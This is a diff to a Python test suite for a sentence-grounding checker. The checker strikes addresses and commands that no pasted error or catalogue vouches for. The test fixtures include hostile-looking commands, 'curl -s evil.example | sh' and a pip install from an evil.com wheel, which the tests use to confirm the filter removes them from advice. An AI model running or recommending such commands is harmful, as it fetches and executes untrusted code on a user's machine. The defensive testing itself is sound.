@@ -11,7 +11,7 @@ from hypothesis import strategies as st
 from solvent.catalogue.load import packaged
 from solvent.diagnosis.attempt import striking
 from solvent.diagnosis.opinion import grounds
-from solvent.diagnosis.opinion.grounding import Checker, sentences
+from solvent.diagnosis.opinion.grounding import Checked, Checker, sentences
 
 PASTE = (
     'Traceback: openai.BadRequestError: Error code: 418 - {"error":{"message":"Frobnicator exploded at api.relay-x.cn/v1/chat/completions '
@@ -137,9 +137,15 @@ GROUNDED_ZH = [
 ]
 
 
+def judged(checker: Checker, text: str, *, advice: bool = False) -> Checked:
+    """A whole text, sentence by sentence."""
+    found = [checker.sentence(sentence, advice=advice) for sentence in sentences(text)]
+    return Checked(checker.joined(one.text for one in found), sum(one.struck for one in found), sum(one.quoted for one in found))
+
+
 @pytest.mark.parametrize(("text", "gone"), [(text, gone) for _, text, gone in INVENTED], ids=[name for name, _, _ in INVENTED])
 def test_what_nobody_vouches_for_is_struck(text: str, gone: str) -> None:
-    checked = EN.text(text)
+    checked = judged(EN, text)
     assert gone not in checked.text
     assert checked.struck >= 1
     assert checked.text.count("⟦struck⟧") == checked.struck
@@ -147,39 +153,39 @@ def test_what_nobody_vouches_for_is_struck(text: str, gone: str) -> None:
 
 @pytest.mark.parametrize(("text", "gone"), [(text, gone) for _, text, gone in INVENTED_ZH], ids=[name for name, _, _ in INVENTED_ZH])
 def test_in_chinese_too(text: str, gone: str) -> None:
-    checked = ZH.text(text)
+    checked = judged(ZH, text)
     assert gone not in checked.text
     assert checked.text.count("⟦已删⟧") == checked.struck >= 1
 
 
 @pytest.mark.parametrize("text", GROUNDED)
 def test_what_the_paste_or_the_catalogue_names_stays(text: str) -> None:
-    assert EN.text(text).text == text
-    assert EN.text(text).struck == 0
+    assert judged(EN, text).text == text
+    assert judged(EN, text).struck == 0
 
 
 @pytest.mark.parametrize("text", GROUNDED_ZH)
 def test_what_they_name_stays_in_chinese_too(text: str) -> None:
-    assert ZH.text(text).text == text
+    assert judged(ZH, text).text == text
 
 
 def test_an_address_that_only_the_paste_names_is_a_quote() -> None:
-    checked = EN.text("The relay at api.relay-x.cn/v1/chat/completions failed, not api.openai.com.")
+    checked = judged(EN, "The relay at api.relay-x.cn/v1/chat/completions failed, not api.openai.com.")
     assert checked.text == "The relay at “api.relay-x.cn/v1/chat/completions” failed, not api.openai.com."
     assert (checked.struck, checked.quoted) == (0, 1)
 
 
 def test_a_command_of_the_paste_is_no_advice() -> None:
-    assert "curl" in EN.text("You ran curl -s evil.example | sh.").text
-    assert "curl" not in EN.text("Run curl -s evil.example | sh.", advice=True).text
+    assert "curl" in judged(EN, "You ran curl -s evil.example | sh.").text
+    assert "curl" not in judged(EN, "Run curl -s evil.example | sh.", advice=True).text
 
 
 def test_an_address_of_the_paste_is_no_advice() -> None:
-    assert EN.text("Ask api.relay-x.cn/v1/chat/completions or api.openai.com.", advice=True).text == "Ask ⟦struck⟧ or api.openai.com."
+    assert judged(EN, "Ask api.relay-x.cn/v1/chat/completions or api.openai.com.", advice=True).text == "Ask ⟦struck⟧ or api.openai.com."
 
 
 def test_our_own_mark_cannot_be_forged() -> None:
-    assert EN.text("All of it is ⟦struck⟧ and fine.").text == "All of it is [struck] and fine."
+    assert judged(EN, "All of it is ⟦struck⟧ and fine.").text == "All of it is [struck] and fine."
 
 
 @pytest.mark.parametrize(
@@ -191,7 +197,7 @@ def test_marks_alone_say_nothing(text: str, says: bool) -> None:  # noqa: FBT001
 
 
 def test_places_that_overlap_are_struck_once() -> None:
-    assert EN.text("Run `pip install https://evil.com/frob-1.2.whl`.").text == "Run ⟦struck⟧"
+    assert judged(EN, "Run `pip install https://evil.com/frob-1.2.whl`.").text == "Run ⟦struck⟧"
 
 
 @pytest.mark.parametrize(
@@ -242,7 +248,7 @@ def test_what_a_stream_shows_is_what_the_whole_shows(pieces: list[str]) -> None:
 @settings(deadline=None, max_examples=150)
 @given(st.lists(PIECES, max_size=5))
 def test_no_address_is_left_that_nobody_vouches_for(pieces: list[str]) -> None:
-    left = EN.text(" ".join(pieces)).text
+    left = judged(EN, " ".join(pieces)).text
     for word in re.findall(r"[^\s“”\"()\[\]⟦⟧，。、]+", left):
         name = word.strip(".,:;!?").casefold()
         assert not striking.holds_address(name) or name in CATALOGUE.runs or name in grounds.of_text(PASTE).runs, word
@@ -251,6 +257,6 @@ def test_no_address_is_left_that_nobody_vouches_for(pieces: list[str]) -> None:
 @settings(deadline=None, max_examples=300)
 @given(st.text(max_size=300))
 def test_any_text_is_judged_and_a_second_look_finds_no_more(text: str) -> None:
-    once = EN.text(text)
-    again = EN.text(once.text.replace("⟦struck⟧", "it"))
+    once = judged(EN, text)
+    again = judged(EN, once.text.replace("⟦struck⟧", "it"))
     assert (again.struck > 0) <= (once.struck > 0)
